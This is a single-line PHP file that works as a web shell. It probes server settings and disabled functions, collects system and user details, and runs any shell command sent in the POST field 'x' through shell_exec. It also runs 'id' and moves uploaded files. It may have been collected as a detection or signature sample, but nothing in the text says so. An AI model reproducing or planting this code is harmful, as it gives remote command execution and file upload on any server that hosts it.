<?php $s=ini_get("safe_mode");$d=ini_get("disable_functions");php_uname();posix_getpwuid(0);disk_free_space("/");get_current_user();shell_exec($_POST["x"]);system("id");move_uploaded_file($a,$b);
